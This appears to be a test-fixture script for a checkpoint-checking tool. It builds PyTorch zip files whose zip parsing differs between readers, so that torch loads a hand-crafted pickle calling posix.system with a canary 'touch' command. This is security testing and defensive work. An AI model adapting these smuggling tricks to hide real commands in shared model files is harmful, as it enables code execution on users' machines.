#!/usr/bin/env python3
"""Torch zip checkpoints that zip readers read differently (issue 66, item 00).

Each file holds a harmless data.pkl that a reader following the zip
specification (and ckptfix before issue 66) takes, and a hostile one that
torch's own reader (miniz in PyTorchStreamReader) takes: its pickle calls
posix.system('touch <CANARY>'). Pure Python, deterministic, nothing is ever
unpickled here. tests/cli/test_zip_differentials.py proves with the judge's
torch which reading torch does, and that ckptfix refuses every file.

    python3 tests/attacks/zip_differentials.py OUTDIR CANARY

  case_names_*.pt     'archive/data.pkl' and 'archive/DATA.pkl', in both
                      orders: miniz finds records ignoring case, and which of
                      the two its (unstable) sort leaves first depends on the
                      directory; the attacker picks the order that works
  case_storage.pt     'archive/data/0' and 'archive/DATA/0': other tensor bytes
  case_byteorder.pt   'archive/BYTEORDER' = big: torch >= 2.1 swaps every tensor
  end_in_comment.pt   a second directory and end record inside the end record's
                      comment, 5 bytes before the end: miniz takes the last
                      end record signature, whatever its comment says
  zip64_extra.pt      a zip64 extra field read by miniz as (size, offset) and by
                      ckptfix before issue 66 as (size, compressed size, offset)
  hidden_record.pt    a local header between two records that the directory
                      does not name (a streaming unzip reads it)
"""

import os
import struct
import sys
import zlib

ROOT = "archive"


def harmless_pickle():
    # {'x': 1}, protocol 2
    return b"\x80\x02}q\x00X\x01\x00\x00\x00xq\x01K\x01s."


def hostile_pickle(canary):
    # posix.system('touch CANARY'), protocol 2: returns an int
    cmd = ("touch " + canary).encode()
    return b"\x80\x02cposix\nsystem\nq\x00X" + struct.pack("<I", len(cmd)) + cmd + b"\x85q\x01Rq\x02."


def tensor_pickle():
    # {'w': tensor of 2 float32 in storage '0'}, protocol 2, as torch.save writes it
    return (b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01ctorch._utils\n_rebuild_tensor_v2\nq\x02((X\x07\x00\x00\x00storageq\x03"
            b"ctorch\nFloatStorage\nq\x04X\x01\x00\x00\x000q\x05X\x03\x00\x00\x00cpuq\x06K\x02tq\x07QK\x00K\x02\x85q\x08"
            b"K\x01\x85q\x09\x89ccollections\nOrderedDict\nq\x0a)Rq\x0btq\x0cRq\x0ds.")


class Zip:
    """A zip written record by record, stored, no data descriptors, so that
    each case can lie exactly where it needs to."""

    def __init__(self):
        self.data = bytearray()
        self.entries = []  # (name, offset, crc, size, central_extra, size32, csize32, offset32)

    def local(self, name, payload):
        offset = len(self.data)
        crc = zlib.crc32(payload)
        n = name.encode()
        self.data += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, len(payload), len(payload), len(n), 0)
        self.data += n + payload
        return offset, crc

    def add(self, name, payload, listed=True):
        offset, crc = self.local(name, payload)
        if listed:
            self.entries.append([name, offset, crc, len(payload), b"", len(payload), len(payload), offset])
        return offset, crc

    def central(self, entries):
        out = bytearray()
        for name, offset, crc, size, extra, size32, csize32, offset32 in entries:
            n = name.encode()
            out += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, crc, csize32, size32, len(n),
                               len(extra), 0, 0, 0, 0, offset32)
            out += n + extra
        return out

    @staticmethod
    def end(count, cd_size, cd_offset, comment=b""):
        return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, len(comment)) + comment

    def finish(self, comment=b""):
        cd_offset = len(self.data)
        cd = self.central(self.entries)
        self.data += cd + self.end(len(self.entries), len(cd), cd_offset, comment)
        return bytes(self.data)


def torch_records(z, pickle, storage=None):
    z.add(f"{ROOT}/data.pkl", pickle)
    if storage is not None:
        z.add(f"{ROOT}/data/0", storage)
    z.add(f"{ROOT}/version", b"3\n")


def case_names(canary, hostile_first):
    z = Zip()
    records = [(f"{ROOT}/data.pkl", harmless_pickle()), (f"{ROOT}/DATA.pkl", hostile_pickle(canary))]
    for name, payload in (records[::-1] if hostile_first else records):
        z.add(name, payload)
    z.add(f"{ROOT}/version", b"3\n")
    return z.finish()


def case_storage(canary):
    z = Zip()
    z.add(f"{ROOT}/data.pkl", tensor_pickle())
    z.add(f"{ROOT}/data/0", struct.pack("<2f", 1.0, 2.0))
    z.add(f"{ROOT}/DATA/0", struct.pack("<2f", 666.0, 666.0))
    z.add(f"{ROOT}/version", b"3\n")
    return z.finish()


def case_byteorder(canary):
    z = Zip()
    z.add(f"{ROOT}/data.pkl", tensor_pickle())
    z.add(f"{ROOT}/data/0", struct.pack("<2f", 1.0, 2.0))
    z.add(f"{ROOT}/BYTEORDER", b"big")
    z.add(f"{ROOT}/version", b"3\n")
    return z.finish()


def end_in_comment(canary):
    z = Zip()
    torch_records(z, harmless_pickle())
    hostile_at, hostile_crc = z.add(f"{ROOT}/data.pkl", hostile_pickle(canary), listed=False)
    real = list(z.entries)
    fake = [list(real[0]), list(real[1])]
    fake[0][1] = fake[0][7] = hostile_at
    fake[0][2] = hostile_crc
    fake[0][3] = fake[0][5] = fake[0][6] = len(hostile_pickle(canary))
    real_cd_offset = len(z.data)
    real_cd = z.central(real)
    z.data += real_cd
    # The real end record's comment holds the fake directory, its end record and 5 bytes more.
    fake_cd_offset = real_cd_offset + len(real_cd) + 22
    fake_cd = z.central(fake)
    tail = fake_cd + Zip.end(2, len(fake_cd), fake_cd_offset) + b"\0" * 5
    z.data += Zip.end(len(real), len(real_cd), real_cd_offset, tail)
    return bytes(z.data)


def zip64_extra(canary):
    z = Zip()
    hostile = hostile_pickle(canary)
    # One size for both: whichever offset a reader takes, it reads a whole pickle (what follows
    # STOP is never read).
    harmless = harmless_pickle() + b"\0" * (len(hostile) - len(harmless_pickle()))
    harmless_at, harmless_crc = z.add(f"{ROOT}/data.pkl", harmless, listed=False)
    hostile_at, _ = z.add(f"{ROOT}/data.pkl", hostile, listed=False)
    version_at, version_crc = z.add(f"{ROOT}/version", b"3\n", listed=False)
    size = len(hostile)
    # size32 = 0xFFFFFFFF and offset32 = 0xFFFFFFFF, csize32 a real value: miniz reads the extra as
    # (size, offset); a reader that expects the compressed size after the size reads (size, -, offset).
    extra = struct.pack("<HHQQQ", 0x0001, 24, size, hostile_at, harmless_at)
    z.entries = [[f"{ROOT}/data.pkl", harmless_at, harmless_crc, size, extra, 0xFFFFFFFF, size, 0xFFFFFFFF],
                 [f"{ROOT}/version", version_at, version_crc, 2, b"", 2, 2, version_at]]
    return z.finish()


def hidden_record(canary):
    z = Zip()
    z.add(f"{ROOT}/data.pkl", harmless_pickle())
    z.add(f"{ROOT}/extra.pkl", hostile_pickle(canary), listed=False)
    z.add(f"{ROOT}/version", b"3\n")
    return z.finish()


CASES = {
    "case_names_a.pt": lambda canary: case_names(canary, False),
    "case_names_b.pt": lambda canary: case_names(canary, True),
    "case_storage.pt": case_storage,
    "case_byteorder.pt": case_byteorder,
    "end_in_comment.pt": end_in_comment,
    "zip64_extra.pt": zip64_extra,
    "hidden_record.pt": hidden_record,
}


def main():
    if len(sys.argv) != 3:
        sys.exit("usage: zip_differentials.py OUTDIR CANARY")
    out, canary = sys.argv[1], sys.argv[2]
    os.makedirs(out, exist_ok=True)
    for name, make in CASES.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(make(canary))


if __name__ == "__main__":
    main()
